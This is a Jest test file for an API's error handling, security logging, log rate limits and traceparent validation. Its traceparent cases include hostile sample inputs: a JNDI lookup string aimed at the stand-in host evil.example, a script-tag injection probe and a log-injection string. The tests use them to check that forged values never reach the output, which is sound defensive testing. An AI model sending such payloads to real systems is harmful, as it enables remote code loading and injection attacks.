import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { once } from 'node:events';
import { connect } from 'node:net';
import { RATE_LIMITS } from '../src/http/rate-limit.js';
import { exchange } from './support/raw-http.js';
import { PATIENCE_MS, spawnApp, type SpawnedApp } from './support/spawned-app.js';
import { SECURITY_HEADERS } from '../src/http/security-headers.js';

const LOOT = 'loot-4711';
const WAYS = ['error', 'text', 'nothing', 'null', 'frozen', 'http', 'status', 'query'];
const TRACE_ID = '4bf92f3577b34da6a3ce929d0e0e4736';

let app: SpawnedApp;

beforeAll(async () => {
  app = await spawnApp({ entry: 'test/support/broken-app.ts' });
}, PATIENCE_MS);
afterAll(() => app.close());

describe('an error that nobody expected', () => {
  it.each([...WAYS, ...WAYS.map((way) => `later/${way}`)])(
    'is a 500 with nothing but the request id: %s',
    async (way) => {
      const answer = await app.client().get(`/v1/broken/${way}`);
      expect(answer.status).toBe(500);
      expect(answer.body).toEqual({
        type: 'urn:bulwark:problem:internal_error',
        title: 'Something went wrong on our side.',
        status: 500,
        code: 'internal_error',
        requestId: answer.headers.get('x-request-id'),
      });
      expect(Object.fromEntries(answer.headers)).toMatchObject(SECURITY_HEADERS);
      expect(JSON.stringify([...answer.headers])).not.toContain(LOOT);
    },
  );

  it('is in the log under the request id, with its causes and its stack', async () => {
    const { headers } = await app.client().get('/v1/broken/error');
    const requestId = headers.get('x-request-id');
    const line = await app.logged((entry) => entry['requestId'] === requestId && 'err' in entry);
    expect(line).toMatchObject({
      level: 'error',
      code: 'internal_error',
      err: { cause: { name: 'Error', message: LOOT, cause: { message: `why-${LOOT}` } } },
    });
    expect(JSON.stringify(line)).toContain('broken-app.ts');
  });

  it('is in the log without its other properties: a query error carries its parameters', async () => {
    const { headers } = await app.client().get('/v1/broken/query');
    const requestId = headers.get('x-request-id');
    const line = await app.logged((entry) => entry['requestId'] === requestId && 'err' in entry);
    expect(JSON.stringify(line)).toContain('no such row');
    expect(JSON.stringify(line)).not.toContain(LOOT);
  });

  it('does not end the process', async () => {
    expect((await app.client().get('/v1/health/live')).status).toBe(200);
  });
});

describe('an upload that its client gives up', () => {
  it('is no fault of ours, nor of the database', async () => {
    const traceId = 'aaaaaaaabbbbbbbbccccccccdddddddd';
    const { port, hostname } = new URL(app.url);
    const socket = connect(Number(port), hostname).resume();
    await once(socket, 'connect');
    const head = [
      'POST /v1/auth/login HTTP/1.1',
      'Host: api',
      'Content-Type: application/json',
      'Content-Length: 50',
      `Traceparent: 00-${traceId}-00f067aa0ba902b7-01`,
    ];
    socket.end(`${head.join('\r\n')}\r\n\r\n{"`);
    await once(socket, 'close');
    // Its answer reached nobody, so no line tells of it: one that comes later shows that all is written.
    const { headers } = await app.client().get('/v1/health/live');
    await app.logged((line) => line['requestId'] === headers.get('x-request-id'));
    expect(app.logs().filter((line) => line['requestId'] === traceId)).toEqual([]);
  });
});

describe('a message that is no HTTP', () => {
  const send = async () => {
    const [answer] = (await exchange(app.url, 'no HTTP\r\n\r\n')).answers;
    return answer?.headers.get('x-request-id');
  };

  it('is a security event with its reason and its address', async () => {
    const requestId = await send();
    expect(await app.logged((line) => line['requestId'] === requestId)).toMatchObject({
      level: 'warn',
      event: 'input_validation_fail',
      code: 'malformed_request',
      ip: '127.0.0.1',
    });
  });

  it('cannot fill the log: its events have a budget', async () => {
    const events = () => app.logs().filter(({ event }) => event === 'input_validation_fail').length;
    const { perIp } = RATE_LIMITS.public;
    const start = performance.now();
    for (let sent = 0; sent < 3 * perIp; sent += perIp / 10)
      await Promise.all(Array.from({ length: perIp / 10 }, send));
    const minutes = (performance.now() - start) / 60_000;
    expect(events()).toBeGreaterThan(perIp / 2);
    expect(events()).toBeLessThanOrEqual(perIp * (1 + minutes) + 1);
    expect((await app.client().get('/v1/health/live')).status).toBe(200);
  }, 60_000);
});

describe('traceparent', () => {
  const idFor = async (traceparent: string) => {
    const answer = await app.client().get('/v1/nowhere', { traceparent });
    const id = answer.headers.get('x-request-id') ?? '';
    expect(answer.body['requestId']).toBe(id);
    expect((await app.logged((line) => line['requestId'] === id)).msg).toBe('request');
    return id;
  };

  it('of the W3C form gives the request its id, in the answer and in the log', async () => {
    const traceId = '0af7651916cd43dd8448eb211c80319c';
    expect(await idFor(`00-${traceId}-00f067aa0ba902b7-01`)).toBe(traceId);
  });

  it.each([
    TRACE_ID,
    `00-${TRACE_ID}-00f067aa0ba902b7`,
    `00-${TRACE_ID}-00f067aa0ba902b7-01-x`,
    `00-${TRACE_ID.toUpperCase()}-00f067aa0ba902b7-01`,
    `00-${'0'.repeat(32)}-00f067aa0ba902b7-01`,
    `00-${TRACE_ID}-${'0'.repeat(16)}-01`,
    `ff-${TRACE_ID}-00f067aa0ba902b7-01`,
    `00-${'g'.repeat(32)}-00f067aa0ba902b7-01`,
    `00-${TRACE_ID}-00f067aa0ba902b7-01, 00-${TRACE_ID}-00f067aa0ba902b7-01`,
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
    '{"level":"fatal"}',
    'a'.repeat(4_000),
  ])('of any other form leaves no trace: %s', async (forged) => {
    const id = await idFor(forged);
    expect(id).toMatch(/^[0-9a-f]{32}$/);
    expect(forged.toLowerCase()).not.toContain(id);
    expect(app.output()).not.toContain(forged);
  });
});
